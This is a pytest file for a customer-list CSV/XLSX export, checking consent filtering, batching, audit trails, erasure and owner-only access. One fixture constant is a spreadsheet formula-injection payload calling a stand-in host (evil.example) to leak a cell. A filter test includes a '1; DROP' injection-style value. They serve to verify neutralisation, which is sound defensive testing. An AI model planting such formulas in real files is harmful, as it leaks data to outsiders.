"""Exports of the customer list (issue 8, item 7): a list's filters or a saved segment as CSV
or XLSX, for owners only; only customers whose current consent covers the purpose when the
export is for one; formulas neutralised; every customer exactly once however many there are;
the download audited with every customer in the file, so a breach report finds them."""

import csv
import io
import json
import os
import re
import stat
import tempfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook

from portal import breaches, customer_list, erasure, exports, id_packing, jobs
from portal.customer_list import Filters
from portal.models import (
    Address,
    AuditEvent,
    ContactPoint,
    Customer,
    ExportJob,
    Segment,
    utcnow,
)
from tests.conftest import csrf_token_from
from tests.factories import make_customer
from tests.test_consent import give, make_purpose

JAN, FEB = datetime(2026, 1, 1, 9, 30), datetime(2026, 2, 1, 9, 30)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def shop(app):
    """Customers of a shop: two VIPs among others, names that look like formulas, a Chinese
    name, an erased customer and one merged into another; consent for e-mail marketing."""
    email = make_purpose()
    c = {
        "anna": make_customer(
            "Anna",
            "Nowak",
            email="anna@example.com",
            phone="+48601234567",
            tags=("vip", "newsletter"),
            company="Nowak Sp. z o.o.",
            tier="A",
            purchase_count=3,
            lifetime_value=Decimal("620.50"),
            last_purchase_at=FEB,
            source="web_form",
        ),
        "wang": make_customer(
            "小明", "王", order="family_first", tags=("vip",), email="wang@example.cn"
        ),
        "hyperlink": make_customer(HYPERLINK, "Formula", tags=("vip",)),
        "plus": make_customer("+1", "Plus", tags=("vip",)),
        "minus": make_customer("-2", "Minus", tags=("vip",), company="@x"),
        "withdrew": make_customer("Wiktor", "Wycofany", tags=("vip",)),
        "never": make_customer("Nina", "Nigdy", tags=("vip",)),
        "erased": make_customer("Ernest", "Erased", tags=("vip",), erased_at=JAN),
        "merged": make_customer("Marek", "Merged", tags=("vip",)),
        "other": make_customer("Olga", "Bez", email="olga@example.com"),
    }
    c["merged"].merged_into = c["anna"].id
    c["merged"].save()
    Address.create(customer=c["anna"], city="Warszawa", country="PL")
    give(c["anna"], email, True, JAN)
    give(c["wang"], email, False, JAN)
    give(c["wang"], email, True, FEB)  # came back: consents now
    give(c["withdrew"], email, True, JAN)
    give(c["withdrew"], email, False, FEB)
    give(c["merged"], email, True, JAN)
    give(c["erased"], email, True, JAN)
    return email, c


VIP_KEYS = ("anna", "wang", "hyperlink", "plus", "minus", "withdrew", "never")


def write(app, tmp_path, filters, file_format="csv", purpose_id=None, language="en"):
    path = tmp_path / f"export.{file_format}"
    with app.test_request_context(), force_locale(language):
        written = exports.write(filters, path, file_format=file_format, purpose_id=purpose_id)
        expected_headers = exports.headers()
    return path, written, expected_headers


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return workbook.worksheets[0]


def by_id(rows: list[list]) -> dict[int, list]:
    return {int(row[0]): row for row in rows}


# --- The files -----------------------------------------------------------------------------


def test_csv_holds_the_customers_of_the_filters_with_their_details(app, tmp_path, shop):
    _email, c = shop
    path, written, expected_headers = write(app, tmp_path, Filters(tag="vip"))
    header, *rows = read_csv(path.read_bytes())

    assert header == expected_headers
    assert header[0] == "ID" and header[13] == "Lifetime value (EUR)"
    listed = by_id(rows)
    assert set(listed) == {c[key].id for key in VIP_KEYS}  # not "other", erased or merged
    assert [int(row[0]) for row in rows] == sorted(listed)
    assert written.count == len(rows) == 7
    assert listed[c["anna"].id] == [
        str(c["anna"].id),
        "Anna Nowak",
        "Anna",
        "Nowak",
        "Nowak Sp. z o.o.",
        "anna@example.com",
        "+48601234567",  # E.164 is a number to a spreadsheet, not a formula: kept as it is
        "Warszawa",
        "PL",
        "en",
        "newsletter, vip",
        "A",
        "3",
        "620.50",
        "2026-02-01 09:30",
        c["anna"].created_at.strftime("%Y-%m-%d %H:%M"),
        "Web form",
        "",
    ]
    assert listed[c["wang"].id][1:4] == ["王小明", "小明", "王"]


def test_column_names_are_in_the_language_of_the_export(app, tmp_path, shop):
    for language in ("ru", "pl", "zh"):
        path, _written, expected_headers = write(app, tmp_path, Filters(), language=language)
        with app.test_request_context(), force_locale(language):
            assert expected_headers[1] == gettext("Name")
        assert read_csv(path.read_bytes())[0] == expected_headers


def test_xlsx_holds_the_same_customers_with_numbers_and_times_as_such(app, tmp_path, shop):
    _email, c = shop
    path, _written, expected_headers = write(app, tmp_path, Filters(tag="vip"), "xlsx")
    sheet = read_xlsx(path.read_bytes())
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert rows[0] == expected_headers
    listed = by_id(rows[1:])
    assert set(listed) == {c[key].id for key in VIP_KEYS}
    anna = listed[c["anna"].id]
    assert anna[1] == "Anna Nowak" and anna[5] == "anna@example.com" and anna[6] == "+48601234567"
    assert anna[12] == 3 and anna[13] == pytest.approx(620.5)
    assert anna[14] == datetime(2026, 2, 1, 9, 30)
    assert listed[c["wang"].id][1] == "王小明"


def test_a_purpose_leaves_out_who_withdrew_and_who_never_answered(app, tmp_path, shop):
    email, c = shop
    for file_format in exports.FORMATS:
        path, written, _headers = write(
            app, tmp_path, Filters(tag="vip"), file_format, purpose_id=email.id
        )
        if file_format == "csv":
            ids = {int(row[0]) for row in read_csv(path.read_bytes())[1:]}
        else:
            ids = {row[0].value for row in read_xlsx(path.read_bytes()).iter_rows(min_row=2)}
        assert ids == {c["anna"].id, c["wang"].id}  # not withdrew, never, erased or merged
        assert id_packing.unpack(written.packed()) == sorted(ids)


def test_details_read_by_id_range_stay_with_their_own_customer(app, tmp_path):
    first = make_customer("Ada", "First", email="ada@example.com", tags=("vip",))
    between = make_customer("Bea", "Between", email="bea@example.com", tags=("other",))
    last = make_customer("Cy", "Last", phone="+48601000003", tags=("vip",))
    Address.create(customer=between, city="Kraków", country="PL")
    path, _written, _headers = write(app, tmp_path, Filters(tag="vip"))
    text = path.read_text(encoding="utf-8-sig")
    listed = by_id(read_csv(path.read_bytes())[1:])

    assert set(listed) == {first.id, last.id}
    assert listed[first.id][5:8] == ["ada@example.com", "", ""]
    assert listed[last.id][5:8] == ["", "+48601000003", ""]
    assert "bea@example.com" not in text and "Kraków" not in text and "other" not in text


def test_formulas_in_names_are_neutralised_in_the_csv(app, tmp_path, shop):
    _email, c = shop
    path, _written, _headers = write(app, tmp_path, Filters(tag="vip"))
    listed = by_id(read_csv(path.read_bytes())[1:])

    assert listed[c["hyperlink"].id][2] == "'" + HYPERLINK
    assert listed[c["hyperlink"].id][1] == "'" + HYPERLINK + " Formula"
    assert listed[c["plus"].id][2] == "'+1"
    assert listed[c["minus"].id][2] == "'-2"
    assert listed[c["minus"].id][4] == "'@x"
    text = path.read_text(encoding="utf-8-sig")
    # No cell of the file starts like a formula (a cell starts the line or follows a comma).
    cells = re.findall(r'(?:^|,)"?([=+\-@][^,\r\n]*)', text, re.M)
    assert cells == ["+48601234567"]  # only the phone number in E.164


@pytest.mark.parametrize("tricky", ["=1+2", "+1", "-2", "@SUM(A1)", "\tTab", "\rReturn", "#N/A"])
def test_text_that_looks_like_a_formula_is_a_text_cell_in_the_xlsx(app, tmp_path, tricky):
    customer = make_customer(tricky, "Person", company=tricky)
    path, _written, _headers = write(app, tmp_path, Filters(), "xlsx")
    sheet = read_xlsx(path.read_bytes())
    row = next(sheet.iter_rows(min_row=2))
    assert row[0].value == customer.id
    for cell in (row[2], row[4]):  # given name and company
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the text is otherwise unchanged.
        assert cell.value == tricky.replace("\r", "\n")
    assert b"<f>" not in _sheet_xml(path)


def _sheet_xml(path: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_control_characters_do_not_break_the_xlsx(app, tmp_path):
    make_customer("Zla\x01\x0bdana", "Person")
    path, written, _headers = write(app, tmp_path, Filters(), "xlsx")
    sheet = read_xlsx(path.read_bytes())
    assert written.count == 1
    assert next(sheet.iter_rows(min_row=2))[2].value == "Zladana"


def test_batches_give_every_customer_exactly_once(app, tmp_path):
    total = 2_345
    Customer.insert_many(
        [
            {"given_name": f"K{n}", "family_name": "Batch", "display_name": f"K{n} Batch"}
            for n in range(total)
        ]
    ).execute()
    ids = [row.id for row in Customer.select(Customer.id).order_by(Customer.id)]
    ContactPoint.insert_many(
        [
            {
                "customer": cid,
                "kind": "email",
                "value": f"k{cid}@x.pl",
                "normalized": f"k{cid}@x.pl",
            }
            for cid in ids[::7]
        ]
    ).execute()
    Customer.update(erased_at=JAN).where(Customer.id.in_(ids[100:110])).execute()
    expected = [cid for cid in ids if cid not in ids[100:110]]

    for file_format in exports.FORMATS:
        path, written, _headers = write(app, tmp_path, Filters(), file_format)
        if file_format == "csv":
            rows = read_csv(path.read_bytes())[1:]
            got = [int(row[0]) for row in rows]
            emails = {int(row[0]): row[5] for row in rows}
        else:
            rows = list(read_xlsx(path.read_bytes()).iter_rows(min_row=2, values_only=True))
            got = [row[0] for row in rows]
            emails = {row[0]: row[5] or "" for row in rows}
        assert got == expected  # three batches of 1,000, no customer twice, none lost
        assert written.count == len(expected)
        assert all(emails[cid] == f"k{cid}@x.pl" for cid in ids[::7] if cid in emails)
        assert id_packing.unpack(written.packed()) == expected


def test_packed_ids_come_back_as_they_went_in():
    for ids in ([], [1], [5, 6, 7, 1000, 100_000, 100_001], list(range(3, 300_000, 3))):
        assert id_packing.unpack(id_packing.pack(ids)) == ids
    # A whole base of a million is a few kilobytes, not the 7 MB of a JSON list.
    assert len(id_packing.pack(range(1, 1_000_001))) < 10_000
    with pytest.raises(ValueError):
        id_packing.pack([3, 2])


# --- Through the owner's pages -------------------------------------------------------------


def start_export(client, **fields):
    """Post the export form (its fields are named export-…)."""
    token = csrf_token_from(client, "/owner/exports/new")
    data = {f"export-{name}": value for name, value in {"csrf_token": token, **fields}.items()}
    return client.post("/owner/exports", data=data)


def finished_job(response) -> ExportJob:
    assert response.status_code == 303, response.get_data(as_text=True)
    job_id = int(response.headers["Location"].rsplit("/", 1)[1])
    job = ExportJob.get_by_id(job_id)
    assert job.status == "done", job.error
    return job


def download(client, job: ExportJob):
    """The download's response, its body read (and the file closed)."""
    with client.get(f"/owner/jobs/{job.id}/download") as response:
        assert response.status_code == 200
        response.get_data()
    return response


def test_owner_exports_a_saved_segment_as_xlsx_and_the_download_is_audited(
    app, owner_client, owner, shop
):
    email, c = shop
    segment = customer_list.save_segment("VIP", Filters(tag="vip"), staff_id=owner.id)
    page = owner_client.get("/segments").get_data(as_text=True)
    assert f'href="/owner/exports/new?segment={segment.id}"' in page
    page = owner_client.get(f"/owner/exports/new?segment={segment.id}").get_data(as_text=True)
    assert "VIP" in page and f'name="export-segment" type="hidden" value="{segment.id}"' in page

    job = finished_job(start_export(owner_client, segment=segment.id, file_format="xlsx"))
    assert job.kind == "customer_export" and job.filename.endswith(".xlsx")
    assert job.filename.startswith(f"customers-segment-{segment.id}-")
    assert stat.S_IMODE(os.stat(job.file_path).st_mode) == 0o600
    assert not list(jobs.exports_folder(app).glob("*.part*"))  # the scratch file was moved

    page = owner_client.get(f"/owner/jobs/{job.id}").get_data(as_text=True)
    assert f"/owner/jobs/{job.id}/download" in page
    with app.test_request_context(), force_locale("en"):
        title = gettext("Customer export")
    assert title in page
    assert title in owner_client.get("/owner/reports").get_data(as_text=True)  # recent jobs
    response = download(owner_client, job)
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = read_xlsx(response.data)
    ids = sorted(row[0] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert ids == sorted(c[key].id for key in VIP_KEYS)

    event = AuditEvent.get(AuditEvent.action == "report_exported")
    details = json.loads(event.details)
    assert event.actor_id == owner.id and event.target_id == job.id
    assert details["kind"] == "customer_export"
    assert details["customer_ids"] == ids
    result = jobs.result_data(job)
    assert result["count"] == 7 and result["segment_id"] == segment.id
    assert json.loads(result["filters"]) == {"tag": "vip", "sort": "name"}


def test_owner_exports_the_lists_filters_as_csv_for_a_purpose(owner_client, shop):
    email, c = shop
    page = owner_client.get("/customers?tag=vip").get_data(as_text=True)
    assert 'action="/owner/exports"' in page
    hidden = re.search(r'name="export-filters" type="hidden" value="([^"]*)"', page)
    filters = hidden.group(1).replace("&#34;", '"')
    assert json.loads(filters) == {"tag": "vip", "sort": "name"}

    job = finished_job(
        start_export(owner_client, filters=filters, file_format="csv", purpose=email.id)
    )
    response = download(owner_client, job)
    assert response.mimetype == "text/csv"
    assert job.filename.startswith("customers-email_marketing-")
    ids = sorted(int(row[0]) for row in read_csv(response.data)[1:])
    assert ids == sorted([c["anna"].id, c["wang"].id])
    details = json.loads(AuditEvent.get(AuditEvent.action == "report_exported").details)
    assert details["customer_ids"] == ids


def test_a_big_export_names_every_customer_in_its_audit_and_the_breach_report(
    app, owner_client, owner
):
    total = exports.PLAIN_IDS_UP_TO + 234
    Customer.insert_many(
        [{"given_name": f"K{n}", "display_name": f"K{n} Big"} for n in range(total)]
    ).execute()
    ids = [row.id for row in Customer.select(Customer.id).order_by(Customer.id)]
    started = utcnow()
    job = finished_job(start_export(owner_client, filters="{}", file_format="csv"))
    result = jobs.result_data(job)
    assert "customer_ids" not in result and result["count"] == total  # packed in the job row
    assert len(job.result_data) < 2_000

    response = download(owner_client, job)
    assert len(read_csv(response.data)) == total + 1
    details = json.loads(AuditEvent.get(AuditEvent.action == "report_exported").details)
    assert details["customer_ids"] == ids

    breach = breaches.record(
        discovered_at=utcnow(),
        description="The owner's laptop was stolen.",
        window_start=started,
        window_end=utcnow(),
        staff_account_id=owner.id,
    )
    affected = breaches.affected_customers(breach)
    assert {row.customer_id for row in affected} == set(ids)
    assert all(row.counts["exported"] == 1 for row in affected)


def test_invalid_choices_come_back_with_messages_and_start_nothing(app, owner_client, shop):
    email, _c = shop
    cases = [
        ({"filters": "{}", "file_format": "pdf"}, "file_format", "Choose CSV or XLSX."),
        ({"filters": "{}", "purpose": "999"}, "purpose", "Choose one of the purposes listed."),
    ]
    for fields, field_id, message in cases:
        response = start_export(owner_client, **{"file_format": "csv", **fields})
        html = response.get_data(as_text=True)
        assert response.status_code == 422
        with app.test_request_context(), force_locale("en"):
            expected = gettext(message)
        assert re.search(
            rf'<p class="error" id="export-{field_id}-error">\s*{re.escape(expected)}', html
        )
    for fields in ({"filters": '{"min_spend": "lots"}'}, {"filters": "[1]"}, {"segment": "999"}):
        response = start_export(owner_client, file_format="csv", **fields)
        assert response.status_code == 422
        with app.test_request_context(), force_locale("en"):
            expected = gettext(
                "These customers could not be found. Open the list or the segment again."
            )
        assert expected in response.get_data(as_text=True)
    assert ExportJob.select().count() == 0


def test_staff_see_no_export_and_cannot_start_or_download_one(
    app, client, staff_member, owner, shop
):
    from tests.conftest import sign_in

    segment = customer_list.save_segment("VIP", Filters(tag="vip"), staff_id=owner.id)
    with app.test_request_context():
        job = jobs.start(
            "customer_export",
            language="en",
            params=exports.job_params(Filters(), file_format="csv"),
            created_by=owner.id,
        )
    sign_in(client, staff_member)

    list_page = client.get("/customers?tag=vip").get_data(as_text=True)
    assert "Anna Nowak" in list_page
    assert "/owner/exports" not in list_page and 'name="export-file_format"' not in list_page
    assert "/owner/exports" not in client.get("/segments").get_data(as_text=True)
    token = csrf_token_from(client, "/customers")
    assert client.get(f"/owner/exports/new?segment={segment.id}").status_code == 403
    fields = {"export-csrf_token": token, "export-filters": "{}", "export-file_format": "csv"}
    response = client.post("/owner/exports", data=fields)
    assert response.status_code == 403
    assert client.get(f"/owner/jobs/{job.id}/download").status_code == 403
    assert ExportJob.select().count() == 1
    assert not AuditEvent.select().where(AuditEvent.action == "report_exported").exists()


def test_erasing_a_customer_removes_an_export_that_named_them(app, owner_client, owner, shop):
    _email, c = shop
    job = finished_job(start_export(owner_client, filters='{"tag": "vip"}', file_format="csv"))
    path = Path(job.file_path)
    assert "Anna Nowak" in path.read_text(encoding="utf-8-sig")

    with app.app_context():
        receipt = erasure.erase(c["anna"].id, staff_id=owner.id)

    assert receipt.files_removed == 1
    assert not path.exists()
    assert ExportJob.get_by_id(job.id).file_path == ""
    assert owner_client.get(f"/owner/jobs/{job.id}/download").status_code == 404


@pytest.mark.parametrize("file_format", exports.FORMATS)
def test_a_failed_export_leaves_no_partial_file(
    app, owner, monkeypatch, tmp_path, file_format, shop
):
    real = exports.batches

    def broken(*args, **kwargs):
        yield next(real(*args, **kwargs))  # a first batch is written, then the disk fills
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(exports, "batches", broken)
    scratch = tmp_path / "system-tmp"  # where openpyxl keeps a sheet's rows until it saves
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    with app.test_request_context():
        job = jobs.start(
            "customer_export",
            language="en",
            params=exports.job_params(Filters(), file_format=file_format),
            created_by=owner.id,
        )
    job = ExportJob.get_by_id(job.id)
    assert job.status == "failed" and "the disk is full" in job.error
    assert list(jobs.exports_folder(app).iterdir()) == []
    assert list(scratch.iterdir()) == []


def test_an_export_for_no_one_is_an_empty_sheet_with_its_header(app, tmp_path):
    for file_format in exports.FORMATS:
        path, written, expected_headers = write(app, tmp_path, Filters(tag="nobody"), file_format)
        assert written.count == 0
        if file_format == "csv":
            assert read_csv(path.read_bytes()) == [expected_headers]
        else:
            rows = list(read_xlsx(path.read_bytes()).iter_rows(values_only=True))
            assert rows == [tuple(expected_headers)]


def test_segments_keep_their_filters_when_exported(owner, shop):
    segment = Segment.create(name="Old", filters='{"tag": "vip", "tier": "A"}')
    from portal.owner.export_forms import filters_from

    assert filters_from(segment.filters) == Filters(tag="vip", tier="A")
    assert filters_from('{"consent_purpose": "1; DROP"}') is None
    assert filters_from('{"sort": "nonsense"}') is None


def test_owner_exports_only_the_customers_ticked_in_the_list(owner_client, shop):
    _email, c = shop
    page = owner_client.get("/customers?tag=vip").get_data(as_text=True)
    assert 'formaction="/owner/exports/selection"' in page
    token = csrf_token_from(owner_client, "/customers?tag=vip")
    ticked = [c["anna"].id, c["wang"].id, c["erased"].id]  # an erased one is never exported
    response = owner_client.post(
        "/owner/exports/selection",
        data={
            "csrf_token": token,
            "customer_ids": [str(i) for i in ticked],
            "export_format": "csv",
            "return_to": "/customers?tag=vip",
        },
    )
    job = finished_job(response)
    rows = read_csv(download(owner_client, job).get_data())
    assert sorted(by_id(rows[1:])) == sorted([c["anna"].id, c["wang"].id])  # after the header
    assert job.filename.startswith("customers-selected-") and job.filename.endswith(".csv")
    event = AuditEvent.get(AuditEvent.action == "report_exported")
    assert sorted(json.loads(event.details)["customer_ids"]) == sorted([c["anna"].id, c["wang"].id])


def test_exporting_with_nothing_ticked_says_so_and_starts_nothing(owner_client, shop):
    token = csrf_token_from(owner_client, "/customers")
    response = owner_client.post(
        "/owner/exports/selection",
        data={"csrf_token": token, "export_format": "xlsx", "return_to": "/customers?tag=vip"},
    )
    assert response.status_code == 303 and response.headers["Location"] == "/customers?tag=vip"
    page = owner_client.get("/customers?tag=vip").get_data(as_text=True)
    assert "Select at least one customer in the list first." in page
    assert ExportJob.select().count() == 0


def test_staff_cannot_export_a_selection(client, staff_member, shop):
    from tests.conftest import sign_in

    _email, c = shop
    sign_in(client, staff_member)
    token = csrf_token_from(client, "/customers")
    response = client.post(
        "/owner/exports/selection",
        data={"csrf_token": token, "customer_ids": [str(c["anna"].id)], "export_format": "csv"},
    )
    assert response.status_code == 403
    assert ExportJob.select().count() == 0
